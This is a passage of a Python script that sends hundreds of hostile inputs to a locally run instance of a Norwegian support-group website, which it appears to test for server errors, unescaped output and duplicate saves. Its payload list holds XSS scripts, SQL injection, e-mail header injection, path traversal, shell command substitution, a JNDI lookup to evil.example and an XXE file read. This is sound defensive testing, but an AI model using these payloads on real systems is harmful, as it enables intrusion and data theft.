#!/usr/bin/env python3
"""The hostile-input sweep (issue 11, §4): every public form and query parameter of a running
Samhold is sent hundreds of hostile values, and the site must answer each with a 4xx or a normal
page, never a 5xx, and must save nothing twice.

    python scripts/hostile_sweep.py http://127.0.0.1:8420        # a running `make serve`
    python scripts/hostile_sweep.py --serve                      # what `make sweep` runs

What it does:

- finds the public forms by reading the public pages (the search, a group's page with its
  contact form, the information meetings' sign-up, "meld interesse", research volunteering, "mine
  opplysninger", login, password reset and both applications, in Bokmål and English) and the
  query parameters the views read (PUBLIC_PAGES and QUERY_PARAMETERS below, from the urls.py
  files, home/views.py and the templates; links found on the pages add to them);
- sends every hostile value (hostile_values(): NUL and control characters, invalid UTF-8, 1 MB,
  header injection, HTML and script, right-to-left text, emoji, SQL, numbers, dates, paths,
  e-mail addresses…) into every field of every form by POST, with a CSRF token and cookie taken
  from the form's page and the other fields filled in validly, and into every field and query
  parameter by GET;
- sends raw requests: invalid UTF-8 and NUL bytes unescaped in the body, the query string and
  the path, more than 1,000 fields (and more than DATA_UPLOAD_MAX_NUMBER_FIELDS), wrong
  Content-Types and charsets, odd methods, and hostile headers (Host, Cookie, Accept-Language,
  X-Forwarded-For, Origin, …);
- fails on any 5xx or a request left unanswered, and on a script value shown back unescaped;
- with database access (--serve, or --db-check with the server's DATABASE_URL and settings in
  the environment), submits one valid-but-hostile entry of every form twice and fails if the
  second saved anything (EXPECTED_REPEATS lists what a repeat may add, and why).

Each request comes from an address of its own (X-Forwarded-For, which the server believes
with SAMHOLD_TRUSTED_PROXY_COUNT=1, as --serve sets), so the per-address rate limits, which
would otherwise answer 429 after a few requests, let the values reach the forms' validation
and services. Limits per group, study or address still answer 429: a 4xx, as it should.

--serve starts the production stack the way `make serve` does, on a free port and a scratch
database (var/sweep/sweep.sqlite3, or --database-url): migrate, geography, themes, demo content,
static files, then gunicorn with deploy/gunicorn.conf.py and the production settings. The task
worker is not needed: e-mails stay queued.

The test suite runs a part of it in-process (tests/samhold/test_hostile_input.py) through the
same code with WsgiTransport.
"""

from __future__ import annotations

import argparse
import collections
import concurrent.futures
import contextlib
import dataclasses
import html.parser
import io
import itertools
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

# Public pages the forms are found on, in both languages; links on them add more (a group's
# page, a meeting's sign-up, a study's volunteering form).
PUBLIC_PAGES = [
    "/",
    "/finn-gruppe/",
    "/informasjonsmoter/",
    "/meld-interesse/",
    "/mine-opplysninger/",
    "/forskning/",
    "/min-side/logg-inn/",
    "/min-side/glemt-passord/",
    "/min-side/bli-igangsetter/",
    "/min-side/forsker/soknad/",
    "/admin/login/",
    "/en/",
    "/en/meld-interesse/",
    "/en/research/",
]
# Which links to follow from those pages to more forms (one of each kind is enough).
FOLLOW = [
    re.compile(r"^/finn-gruppe/[^/?]+/[^/?]+/[^/?]+/$"),  # a group's page (contact form)
    re.compile(r"^/finn-gruppe/nett/[^/?]+/$"),  # an online group's page
    re.compile(r"^/informasjonsmoter/\d+/meld-pa/$"),  # a meeting's sign-up (or waiting list)
    re.compile(r"^/forskning/[^/?]+/meld-deg/$"),  # volunteering for a study
    re.compile(r"^/forskning/[^/?]+/$"),  # a study's page (links to its form)
    re.compile(r"^/finn-gruppe/[^/?]+/$"),  # a county
    re.compile(r"^/finn-gruppe/[^/?]+/[^/?]+/$"),  # a municipality
]
# Query parameters the views read (request.GET in home/, facilitators/ and research/), by page;
# those of a GET form found on a page are added to them.
QUERY_PARAMETERS = {
    "/": ["kommune"],
    "/finn-gruppe/": ["q", "fylke", "kommune", "tema", "dag", "tid", "oppmote", "malgruppe", "vis", "side"],
    "/finn-gruppe/kommuner/": ["q"],
    "/meld-interesse/": ["tema", "q", "kommune", "radius_km", "municipality"],
    "/forskning/": ["tema", "fylke"],
    "/min-side/logg-inn/": ["next"],
    "/informasjonsmoter/": ["kommune"],
}
# What a repeated submission may add, and why that is meant (everything else must not grow).
EXPECTED_REPEATS = {
    "samhold_ratemark": "rate limits count every request (keyed hashes only)",
    "facilitators_loginattempt": "every failed login counts towards the lockout",
    "django_session": "a session may be made for the visitor",
}
EXPECTED_REPEATS_BY_FORM = {
    "/mine-opplysninger/": (
        {"outbox_outgoingemail", "django_tasks_database_dbtaskresult"},
        "asking again for one's links e-mails fresh links again (limited per address and per mailbox a day)",
    ),
    "/min-side/glemt-passord/": (
        {"outbox_outgoingemail", "django_tasks_database_dbtaskresult"},
        "asking again for a new password e-mails a new link again (3 an hour per address)",
    ),
}
FORMS_NOT_TO_SUBMIT_TWICE = {"/admin/login/", "/min-side/logg-inn/"}  # no rows, only attempts

XSS_MARK = "sweep-xss"


# Hostile values ---------------------------------------------------------------------------------


def hostile_values() -> list[tuple[str, bytes]]:
    """(label, bytes) for every value: text as UTF-8, and byte strings that are no UTF-8 at
    all. More than 300, each different."""
    text: list[tuple[str, str]] = []

    def add(label, *values):
        for i, value in enumerate(values):
            text.append((f"{label} {i}" if len(values) > 1 else label, value))

    # NUL and control characters
    add("NUL", "\x00", "a\x00b", "\x00" * 16, "kari\x00@example.org", "%00", "\\x00", "\\u0000", "\u0000sorg")
    add("control", *(chr(c) for c in list(range(1, 32)) + [127]))
    add("C1 control", "\x85", "\x9b", "\u0080x")
    # Length
    add("long", *("a" * n for n in (81, 201, 255, 256, 501, 1001, 2001, 4097, 65_537)))
    add("1 MB", "x" * 1_048_576)
    add("long multibyte", "æ" * 100_000, "😀" * 20_000, "9" * 1000, " " * 5000, "a " * 3000)
    # Header injection (fields that could end up in an e-mail's headers)
    add(
        "header injection",
        "Kari\r\nBcc: victim@example.com",
        "kari@example.org\r\nBcc: victim@example.com",
        "kari@example.org\nCc: victim@example.com",
        "kari@example.org\rX-Injected: 1",
        "Hei\r\nSubject: injected",
        "Hei\r\n\r\nInjected body",
        "=?utf-8?b?QmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?=",
        "Kari\u2028Bcc: victim@example.com",
        "Kari\u0085Bcc: victim@example.com",
        "kari@example.org%0d%0aBcc:victim@example.com",
        "Kari\r\nContent-Type: text/html",
        "\r\n\r\n",
        "Kari\nReply-To: evil@example.com",
        '"Kari\r\nBcc: victim@example.com" <kari@example.org>',
    )
    # HTML and script
    add(
        "html",
        f"<script>alert('{XSS_MARK}')</script>",
        f"\"><script>alert('{XSS_MARK}')</script>",
        f"'><img src=x onerror=alert('{XSS_MARK}')>",
        f"<svg onload=alert('{XSS_MARK}')>",
        f"</textarea><script>alert('{XSS_MARK}')</script>",
        f"</title><script>alert('{XSS_MARK}')</script>",
        f"javascript:alert('{XSS_MARK}')",
        f"<a href=\"javascript:alert('{XSS_MARK}')\">x</a>",
        "<iframe src=//evil.example>",
        "<!--",
        "]]>",
        "<style>*{display:none}</style>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "&lt;&#x3C;&#60;&amp;",
        "<b>Kari</b>",
        "<<script>>",
        "</script>",
        f"</script><script>alert('{XSS_MARK}')</script>",
        "{{ 7*7 }}",
        "{% debug %}",
        "{{ request.META }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        '<div onmouseover="alert(1)">',
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    )
    # Right-to-left and bidirectional text
    add(
        "rtl",
        "\u202egnp.exe",
        "Kari\u202e",
        "\u202b\u202a\u202c",
        "\u2066\u2067\u2068\u2069",
        "مرحبا بالعالم",
        "שלום עולם",
        "\u200f\u200e",
        "\u061c",
        "abc\u202edef\u202cghi",
        "Sorg \u202e\u0627\u0644\u062d\u0632\u0646",
    )
    # Emoji
    add(
        "emoji",
        "😀",
        "👨‍👩‍👧‍👦",
        "🏳️‍🌈",
        "🇳🇴",
        "👍🏽",
        "😀" * 50,
        "\ufe0f",
        "Kari 😀",
        "🧑‍🤝‍🧑 sorg",
        "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1",
    )
    # Unicode oddities
    add(
        "unicode",
        "\u200b",
        "\ufeff",
        "\ufeffsorg",
        "\uffff",
        "\ufffe",
        "\ufffd",
        "e\u0301" * 50,
        "Z\u0336\u0334\u0353a\u0337\u0323l\u0338g\u0335o",
        "ﬁ",
        "ＡＢＣ",
        "İ",
        "ß",
        "ｓｅｌｅｃｔ",
        "\ue000",
        "\U0010fffd",
        "\U000e0041\U000e0042",
        "ǅ",
        "Σίσυφος",
        "悲伤支持小组",
        "Ŋ ŋ Đ đ Čč",
        "æøå ÆØÅ",
        "\u00a0",
        "\u3000",
        "\u2028",
        "\u2029",
        "A\u030a",
    )
    # SQL
    add(
        "sql",
        "' OR '1'='1",
        "'; DROP TABLE groups_selfhelpgroup; --",
        "1; SELECT pg_sleep(5)",
        '" OR ""="',
        "1' AND SLEEP(5)#",
        "%' --",
        "') OR ('1'='1",
        "1 UNION SELECT NULL,NULL--",
        "admin'--",
        "%",
        "_",
        "%%",
        "\\",
        "\\'",
        "''",
        "' || (SELECT version()) || '",
        "1 ORDER BY 100",
        "';--",
        ";",
        "1)) OR 1=1--",
        "' OR 1=1 LIMIT 1 OFFSET 1 --",
        "sorg' AND 1=CAST((SELECT current_user) AS int)--",
        "\\x27",
        "$$ OR 1=1 $$",
        "sorg:* & !a | b",
        "sorg <-> kreft",
        "!!!",
        "((((((",
    )
    # Numbers
    add(
        "number",
        "0",
        "-1",
        "1",
        "-0",
        "1.5",
        "1e3",
        "1e400",
        "NaN",
        "Infinity",
        "-Infinity",
        "9" * 20,
        "9" * 40,
        str(2**63),
        str(2**63 - 1),
        str(-(2**63) - 1),
        "0x1F",
        "١٢٣",
        "１２３",
        "1_000",
        " 1 ",
        "+1",
        "00000001",
        "1,5",
        "-99999999999999999999",
        "2147483648",
    )
    # Dates and times
    add(
        "date",
        "2026-02-30",
        "9999-12-31",
        "0000-00-00",
        "25:61",
        "24:00",
        "1970-01-01T00:00:00Z",
        "-1-01-01",
        "2026-13-01",
    )
    # Paths and addresses
    add(
        "path",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "http://evil.example/",
        "//evil.example",
        "https://evil.example/%2F..",
        "\\\\evil.example\\share",
        "/\\evil.example",
        "http://127.0.0.1:22/",
    )
    # Format strings, templates, shells
    add(
        "format",
        "%s%s%s%n",
        "{0}",
        "{}",
        "%(name)s",
        "${jndi:ldap://evil.example/a}",
        "`id`",
        "$(id)",
        "| id",
        "; ls",
        "&& whoami",
        "*",
        "?",
        "#",
        "&",
        "=",
        "&tema=x",
        "+",
        "%20",
        "%2e%2e",
        "%25",
        "%u0000",
    )
    # Structured data
    add(
        "structured",
        '{"a": 1}',
        "[]",
        "null",
        "true",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        '"',
        "'",
        "\\n",
    )
    # E-mail addresses
    add(
        "email",
        "a@b",
        "kari@ex\ufffdample.org",
        "kari@ex\u202eample.org",
        "kari@😀.no",
        "kari@xn--zz.no",
        '"kari\\"sveip"@example.org',
        "kari@[127.0.0.1]",
        "kari@localhost",
        "<kari@example.org>",
        "Kari <kari@example.org>",
        "kari@example.org, per@example.org",
        "kari@-example.org",
        "kari@example..org",
        "a" * 65 + "@example.org",
        "kari@" + ("a" * 63 + ".") * 4 + "no",
        "æøå@example.org",
        "kari@bücher.de",
        "kari@xn--bcher-kva.de",
        "kari@ex\u200bample.org",
        "kari@exam\u0000ple.org",
        "KARI@EXAMPLE.ORG",
        "kari+sveip@example.org",
        '"\x01"@example.org',
        "kari@" + "a" * 70 + ".no",
        "kari@@example.org",
        "@example.org",
        "kari@",
    )
    # Phone numbers
    add(
        "phone",
        "+47 912 34 567",
        "+4791234567\r\n",
        "820 00 000",
        "+1 555 0100",
        "12345678901234567890123",
        "٩١٢٣٤٥٦٧",
        "912 34 567 ext. 9",
        "(+47) 91-23-45-67",
    )
    # Whitespace
    add("whitespace", "", " ", "\t", "\n", "\r\n", "\u00a0\u00a0", "\u3000\u3000", "\t\n\r ")

    values = [(label, value.encode("utf-8", "surrogatepass")) for label, value in text]
    # Bytes that are no UTF-8: lone continuation bytes, overlong forms, surrogates, beyond
    # U+10FFFF, truncated sequences, Latin-1 and a BOM.
    invalid = [
        b"\xff",
        b"\xfe",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xf4\x90\x80\x80",
        b"\x80",
        b"\xbf",
        b"\xc3",
        b"\xc3\x28",
        b"\xa0\xa1",
        b"\xe2\x82",
        b"\xf0\x28\x8c\xbc",
        b"\xf8\xa1\xa1\xa1\xa1",
        b"\xfc\xa1\xa1\xa1\xa1\xa1",
        b"s\xf8rg",
        b"\xe6\xf8\xe5",
        b"kari@ex\xffample.org",
        b"kari\xff@example.org",
        b"Kari\xc0\r\nBcc: victim@example.com",
        b"\xef\xbb\xbf",
        b"\xfe\xff\x00s\x00o",
        b"\x00\xff\x00\xfe",
        b"\xff" * 1000,
    ]
    values += [(f"invalid UTF-8 {i}", value) for i, value in enumerate(invalid)]
    labels = [label for label, _value in values]
    assert len(set(labels)) == len(labels), "labels must be unique"
    return values


# Transports ---------------------------------------------------------------------------------------


@dataclasses.dataclass
class Response:
    status: int
    headers: list[tuple[str, str]]
    body: bytes

    def header(self, name: str) -> str:
        for key, value in self.headers:
            if key.lower() == name.lower():
                return value
        return ""

    def cookies(self) -> dict[str, str]:
        found = {}
        for key, value in self.headers:
            if key.lower() == "set-cookie":
                pair = value.split(";", 1)[0]
                name, _eq, cookie = pair.partition("=")
                found[name.strip()] = cookie.strip()
        return found


class HttpTransport:
    """Raw HTTP/1.1 over a socket per thread, kept alive: the request line, headers and body go
    out byte for byte as given (so invalid UTF-8 and NUL bytes reach the server unescaped)."""

    def __init__(self, base_url: str, timeout: float = 60):
        parts = urllib.parse.urlsplit(base_url)
        if parts.scheme != "http":
            raise SystemExit("The sweep speaks plain HTTP to a local server: give an http:// address.")
        self.host = parts.hostname or "127.0.0.1"
        self.port = parts.port or 80
        self.host_header = parts.netloc
        self.timeout = timeout
        self.local = threading.local()

    def _connect(self):
        sock = socket.create_connection((self.host, self.port), timeout=self.timeout)
        self.local.sock = sock
        return sock

    def request(self, method: str, target: bytes, headers: list[tuple[str, bytes]], body: bytes = b"") -> Response:
        import http.client

        lines = [method.encode() + b" " + target + b" HTTP/1.1"]
        names = {name.lower() for name, _value in headers}
        if "host" not in names:
            lines.append(b"Host: " + self.host_header.encode())
        for name, value in headers:
            lines.append(name.encode() + b": " + value)
        if body or method in ("POST", "PUT", "PATCH"):
            lines.append(b"Content-Length: " + str(len(body)).encode())
        raw = b"\r\n".join(lines) + b"\r\n\r\n" + body
        for attempt in (1, 2):
            sock = getattr(self.local, "sock", None) or self._connect()
            try:
                sock.sendall(raw)
            except (BrokenPipeError, ConnectionResetError) as error:
                # The server stopped reading: it may have answered first (414 for a request line
                # over its limit) and closed. A large request it would not read whole is refused,
                # not unanswered.
                early = self._early_answer(sock, method)
                self._close()
                if early is not None:
                    return early
                if len(raw) > 65_536:
                    raise Refused(str(error)) from error
                if attempt == 2:
                    raise NoAnswer(str(error)) from error
                continue
            try:
                response = http.client.HTTPResponse(sock, method=method)
                response.begin()
                content = response.read()
            except (ConnectionError, http.client.RemoteDisconnected, http.client.BadStatusLine) as error:
                # A kept-alive connection the server closed meanwhile: once more on a new one.
                self._close()
                if attempt == 2:
                    raise NoAnswer(str(error)) from error
                continue
            except (TimeoutError, OSError, http.client.HTTPException) as error:
                self._close()
                raise NoAnswer(str(error)) from error
            if response.will_close:
                self._close()
            return Response(response.status, response.getheaders(), content)
        raise AssertionError("unreachable")

    @staticmethod
    def _early_answer(sock, method) -> Response | None:
        import http.client

        try:
            response = http.client.HTTPResponse(sock, method=method)
            response.begin()
            return Response(response.status, response.getheaders(), response.read())
        except (OSError, http.client.HTTPException):
            return None

    def _close(self):
        sock = getattr(self.local, "sock", None)
        if sock is not None:
            with contextlib.suppress(OSError):
                sock.close()
        self.local.sock = None


class WsgiTransport:
    """The same requests made to a WSGI application in this process, as a WSGI server would pass
    them (the path and query string as Latin-1 text of their bytes). For the test suite."""

    def __init__(self, application, host: str = "localhost"):
        self.application = application
        self.host = host

    def request(self, method: str, target: bytes, headers: list[tuple[str, bytes]], body: bytes = b"") -> Response:
        path, _q, query = target.partition(b"?")
        environ = {
            "REQUEST_METHOD": method,
            "SCRIPT_NAME": "",
            "PATH_INFO": urllib.parse.unquote_to_bytes(path).decode("latin-1"),
            "QUERY_STRING": query.decode("latin-1"),
            "SERVER_NAME": self.host,
            "SERVER_PORT": "80",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "REMOTE_ADDR": "127.0.0.1",
            "wsgi.version": (1, 0),
            "wsgi.url_scheme": "http",
            "wsgi.input": io.BytesIO(body),
            "wsgi.errors": sys.stderr,
            "wsgi.multithread": False,
            "wsgi.multiprocess": False,
            "wsgi.run_once": False,
            "HTTP_HOST": self.host,
            "CONTENT_LENGTH": str(len(body)),
        }
        for name, value in headers:
            key = name.upper().replace("-", "_")
            text = value.decode("latin-1")
            if key in ("CONTENT_TYPE", "CONTENT_LENGTH"):
                environ[key] = text
            else:
                environ[f"HTTP_{key}"] = text
        started = {}

        def start_response(status, response_headers, exc_info=None):
            started["status"] = int(status.split()[0])
            started["headers"] = response_headers

        chunks = self.application(environ, start_response)
        try:
            content = b"".join(chunks)
        finally:
            if hasattr(chunks, "close"):
                chunks.close()
        return Response(started["status"], list(started["headers"]), content)


class NoAnswer(Exception):
    """The server did not answer (it closed the connection, or timed out)."""


class Refused(Exception):
    """The server closed the connection while a request of more than 64 KB was still being
    sent: it refuses to read so much (gunicorn's limit on the request line is 4 KB)."""


# Pages and forms ----------------------------------------------------------------------------------


@dataclasses.dataclass
class Field:
    name: str
    kind: str  # text, email, password, hidden, checkbox, radio, select, textarea, number, date, ...
    value: str = ""
    options: list[str] = dataclasses.field(default_factory=list)
    checked: bool = False


@dataclasses.dataclass
class Form:
    page: str  # where the form is shown (and its CSRF token is taken from)
    action: str
    method: str
    fields: list[Field]

    @property
    def key(self) -> tuple:
        return (self.action, self.method, tuple(sorted({f.name for f in self.fields})))

    def names(self) -> list[str]:
        seen = []
        for field in self.fields:
            if field.name not in seen:
                seen.append(field.name)
        return seen


class _FormParser(html.parser.HTMLParser):
    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.page = page
        self.forms: list[Form] = []
        self.links: list[str] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._textarea: Field | None = None

    def handle_starttag(self, tag, attrs):
        a = {name: (value or "") for name, value in attrs}
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form":
            action = urllib.parse.urljoin(self.page, a.get("action") or self.page)
            self._form = Form(self.page, action, (a.get("method") or "get").upper(), [])
            self.forms.append(self._form)
        elif self._form is None or not a.get("name"):
            return
        elif tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "reset", "file"):
                if kind == "submit":
                    self._form.fields.append(Field(a["name"], "submit", a.get("value", "")))
                return
            self._form.fields.append(Field(a["name"], kind, a.get("value", "on" if kind == "checkbox" else ""),
                                           checked="checked" in a))
        elif tag == "button" and (a.get("type") or "submit") == "submit":
            self._form.fields.append(Field(a["name"], "submit", a.get("value", "")))
        elif tag == "select":
            self._select = Field(a["name"], "select")
            self._form.fields.append(self._select)
        elif tag == "textarea":
            self._textarea = Field(a["name"], "textarea")
            self._form.fields.append(self._textarea)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def unknown_decl(self, data):
        pass


class _OptionParser(html.parser.HTMLParser):
    """<option> values of each <select> (the form parser keeps no nesting state for them)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.options: dict[str, list[str]] = collections.defaultdict(list)
        self._select = None

    def handle_starttag(self, tag, attrs):
        a = {name: (value or "") for name, value in attrs}
        if tag == "select":
            self._select = a.get("name")
        elif tag == "option" and self._select and "value" in a:
            self.options[self._select].append(a["value"])

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None


def parse_page(page: str, body: bytes) -> tuple[list[Form], list[str]]:
    text = body.decode("utf-8", "replace")
    parser = _FormParser(page)
    parser.feed(text)
    options = _OptionParser()
    options.feed(text)
    for form in parser.forms:
        for field in form.fields:
            if field.kind == "select":
                field.options = options.options.get(field.name, [])
    return parser.forms, parser.links


# A visitor ----------------------------------------------------------------------------------------


def quote(value: bytes) -> bytes:
    return urllib.parse.quote_from_bytes(value, safe="").encode("ascii")


def urlencode(pairs) -> bytes:
    return b"&".join(quote(name) + b"=" + quote(value) for name, value in pairs)


class Visitor:
    """Cookies (kept whatever their Secure flag: the sweep speaks plain HTTP to a local server)
    and a fresh client address for every request."""

    _addresses = itertools.count(1)
    _lock = threading.Lock()

    def __init__(self, transport, *, rotate_addresses: bool = True):
        self.transport = transport
        self.cookies: dict[str, str] = {}
        self.rotate_addresses = rotate_addresses

    def headers(self, extra=()) -> list[tuple[str, bytes]]:
        headers = [("User-Agent", b"samhold-hostile-sweep"), ("Accept-Language", b"nb")]
        if self.rotate_addresses:
            with self._lock:
                n = next(self._addresses)
            headers.append(("X-Forwarded-For", f"10.{(n >> 16) & 255}.{(n >> 8) & 255}.{n & 255}".encode()))
        if self.cookies:
            headers.append(("Cookie", "; ".join(f"{k}={v}" for k, v in self.cookies.items()).encode("latin-1")))
        names = {name.lower() for name, _value in extra}
        return [h for h in headers if h[0].lower() not in names] + list(extra)

    def request(self, method, target: bytes, body: bytes = b"", headers=()) -> Response:
        response = self.transport.request(method, target, self.headers(headers), body)
        self.cookies.update(response.cookies())
        return response

    def get(self, path: str, query: bytes = b"") -> Response:
        return self.request("GET", path.encode() + (b"?" + query if query else b""))

    def post(self, path: str, body: bytes, content_type: bytes = b"application/x-www-form-urlencoded") -> Response:
        return self.request("POST", path.encode(), body, [("Content-Type", content_type)])


def csrf_token(body: bytes) -> str:
    found = re.search(rb'name="csrfmiddlewaretoken" value="([^"]+)"', body)
    return found.group(1).decode() if found else ""


def discover(transport, pages=PUBLIC_PAGES, *, follow=True, log=print) -> tuple[list[Form], dict[str, set[str]]]:
    """The forms on the public pages (and on the pages they link to that FOLLOW names), and the
    query parameters of each page: QUERY_PARAMETERS, GET forms' fields and links' parameters."""
    visitor = Visitor(transport)
    forms: dict[tuple, Form] = {}
    parameters: dict[str, set[str]] = collections.defaultdict(set)
    for page, names in QUERY_PARAMETERS.items():
        parameters[page].update(names)
    queue, seen, followed = list(pages), set(), set()
    while queue:
        page = queue.pop(0)
        if page in seen:
            continue
        seen.add(page)
        response = visitor.get(page)
        if response.status != 200 or "html" not in response.header("Content-Type"):
            log(f"  (page {page} answered {response.status}: skipped)")
            continue
        found, links = parse_page(page, response.body)
        for form in found:
            if urllib.parse.urlsplit(form.action).netloc:
                continue  # another site
            form.action = urllib.parse.urlsplit(form.action).path or page
            if form.method == "GET":
                parameters[form.action].update(form.names())
            forms.setdefault(form.key, form)
        for link in links:
            parts = urllib.parse.urlsplit(urllib.parse.urljoin(page, link))
            if parts.netloc or not parts.path.startswith("/"):
                continue
            if parts.query:
                names = {name for name, _value in urllib.parse.parse_qsl(parts.query, keep_blank_values=True)}
                parameters[parts.path].update(names)
            if follow:
                for pattern in FOLLOW:
                    if pattern.match(parts.path) and pattern.pattern not in followed:
                        followed.add(pattern.pattern)
                        queue.append(parts.path)
    return list(forms.values()), dict(parameters)


# Valid values, so that a hostile value in one field reaches as far as it can -----------------------

_serial = itertools.count(1)
_serial_lock = threading.Lock()


def unique_email() -> str:
    with _serial_lock:
        n = next(_serial)
    return f"sveip{n}.{secrets.token_hex(3)}@example.org"


def valid_value(field: Field) -> list[str]:
    """What a person would fill in (a list: a checkbox group may send several)."""
    name = field.name.lower()
    if field.kind == "hidden" or field.kind == "submit":
        return [field.value]
    if name == "website":  # the honeypot, empty for people
        return [""]
    if field.kind in ("checkbox", "radio"):
        return [field.value or "on"]
    if field.kind == "select":
        options = [o for o in field.options if o]
        return [options[0]] if options else [""]
    if field.kind == "email" or name in ("email", "username"):
        return [unique_email()]
    if field.kind == "password" or "password" in name:
        return ["Sveip-passord-2026!"]
    if field.kind == "tel" or name == "phone":
        return ["912 34 567"]
    if field.kind == "date":
        return ["2030-01-15"]
    if field.kind == "time":
        return ["18:00"]
    if field.kind == "number":
        return [field.value or "1"]
    if field.kind == "textarea" or name in ("message", "background"):
        return ["Hei! Dette er en melding fra sveipen, lang nok til skjemaet."]
    if name == "name":
        return ["Kari Sveip"]
    if name == "q":
        return ["sorg"]
    return [field.value or "Sveip"]


def valid_pairs(form: Form, token: str, overrides: dict[str, list[bytes]] | None = None) -> list[tuple[bytes, bytes]]:
    """The form's fields filled in validly (one option of each checkbox or radio group), with
    `overrides` instead for the fields it names."""
    overrides = overrides or {}
    pairs, done = [], set()
    for field in form.fields:
        if field.name in done:
            continue
        if field.name in overrides:
            pairs += [(field.name.encode(), value) for value in overrides[field.name]]
            done.add(field.name)
            continue
        if field.name == "csrfmiddlewaretoken":
            pairs.append((b"csrfmiddlewaretoken", token.encode()))
        elif field.kind == "submit" and not field.value:
            continue
        else:
            pairs += [(field.name.encode(), value.encode()) for value in valid_value(field)]
        done.add(field.name)
    return pairs


# The sweep ----------------------------------------------------------------------------------------


@dataclasses.dataclass
class Finding:
    what: str
    method: str
    target: str
    detail: str

    def __str__(self):
        return f"{self.what}: {self.method} {self.target} [{self.detail}]"


class Report:
    def __init__(self):
        self.lock = threading.Lock()
        self.sent = 0
        self.by_class: collections.Counter = collections.Counter()
        self.by_status: collections.Counter = collections.Counter()
        self.findings: list[Finding] = []
        self.notes: list[str] = []

    def count(self, status: int | None):
        with self.lock:
            self.sent += 1
            if status is None:
                self.by_class["no answer"] += 1
            else:
                self.by_class[f"{status // 100}xx"] += 1
                self.by_status[status] += 1

    def find(self, finding: Finding):
        with self.lock:
            self.findings.append(finding)

    @property
    def failures(self) -> int:
        return len(self.findings)

    def summary(self) -> str:
        classes = ", ".join(f"{name}: {count}" for name, count in sorted(self.by_class.items()))
        statuses = ", ".join(f"{status}: {count}" for status, count in sorted(self.by_status.items()))
        server_errors = sum(c for s, c in self.by_status.items() if s >= 500) + self.by_class.get("no answer", 0)
        lines = [
            f"Requests sent: {self.sent}",
            f"By class: {classes}",
            f"By status: {statuses}",
            f"5xx or no answer: {server_errors}",
            f"Findings: {len(self.findings)}",
        ]
        return "\n".join(lines)


def shorten(value: bytes, limit: int = 120) -> str:
    text = repr(value)
    return text if len(text) <= limit else text[:limit] + f"… ({len(value)} bytes)"


def check(report: Report, response: Response | None, method: str, target: bytes, detail: str, sent: bytes = b""):
    """Count the answer, and note a 5xx, no answer, or a script value shown back unescaped."""
    target_text = shorten(target, 160)
    if response is None:
        report.count(None)
        report.find(Finding("no answer", method, target_text, detail))
        return
    report.count(response.status)
    if response.status >= 500:
        report.find(Finding(f"{response.status}", method, target_text, detail))
    elif XSS_MARK.encode() in sent and "html" in response.header("Content-Type"):
        raw = urllib.parse.unquote_to_bytes(sent) if b"%" in sent else sent
        for marker in (b"<script>alert('" + XSS_MARK.encode(), b"onerror=alert('" + XSS_MARK.encode(),
                       b"<svg onload=alert('" + XSS_MARK.encode(), b"<a href=\"javascript:alert('" + XSS_MARK.encode()):
            if marker in raw and marker in response.body:
                report.find(Finding(f"unescaped script in a {response.status} page", method, target_text, detail))
                break


def send(report, visitor: Visitor, method: str, target: bytes, body: bytes = b"", headers=(), detail: str = ""):
    try:
        response = visitor.request(method, target, body, headers)
    except Refused:
        with report.lock:
            report.sent += 1
            report.by_class["closed before the request was read whole"] += 1
        return None
    except NoAnswer as error:
        check(report, None, method, target, f"{detail}; {error}")
        return None
    check(report, response, method, target, detail, sent=target + b" " + body)
    return response


def form_session(transport, form: Form) -> tuple[Visitor, str]:
    """A visitor who has opened the form's page: its CSRF cookie and token."""
    visitor = Visitor(transport)
    response = visitor.get(form.page)
    return visitor, csrf_token(response.body)


def jobs_for_form(form: Form, values, visitor: Visitor, token: str, report: Report):
    """Every value into every field: POST for a POST form (with the others filled in validly),
    GET for every form (a GET form's own parameters, or the POST form's page with them)."""
    for name in form.names():
        for label, value in values:
            detail = f"form {form.action} field {name!r} value {label}"
            # (The request is built when it is sent: built beforehand, 1 MB values add up.)
            if form.method == "POST":
                yield lambda name=name, value=value, detail=detail: send(
                    report, visitor, "POST", form.action.encode(), urlencode(valid_pairs(form, token, {name: [value]})),
                    [("Content-Type", b"application/x-www-form-urlencoded")], detail)
            else:
                yield lambda name=name, value=value, detail=detail: send(
                    report, visitor, "GET",
                    form.action.encode() + b"?" + urlencode(valid_pairs(form, token, {name: [value]})), detail=detail)
    if form.method == "POST":
        # The form's page by GET with the value in every field at once (a page that reads none of
        # them must still answer calmly).
        for label, value in values:
            detail = f"page {form.page} with every field of its form set to value {label}"
            yield lambda value=value, detail=detail: send(
                report, visitor, "GET", form.page.encode() + b"?" + urlencode((n.encode(), value) for n in form.names()),
                detail=detail)


def jobs_for_parameters(parameters: dict[str, set[str]], values, visitor: Visitor, report: Report, forms):
    covered = {(f.action, name) for f in forms if f.method == "GET" for name in f.names()}
    for path, names in sorted(parameters.items()):
        for name in sorted(names):
            if (path, name) in covered:
                continue
            for label, value in values:
                target = path.encode() + b"?" + quote(name.encode()) + b"=" + quote(value)
                detail = f"parameter {name!r} of {path} value {label}"
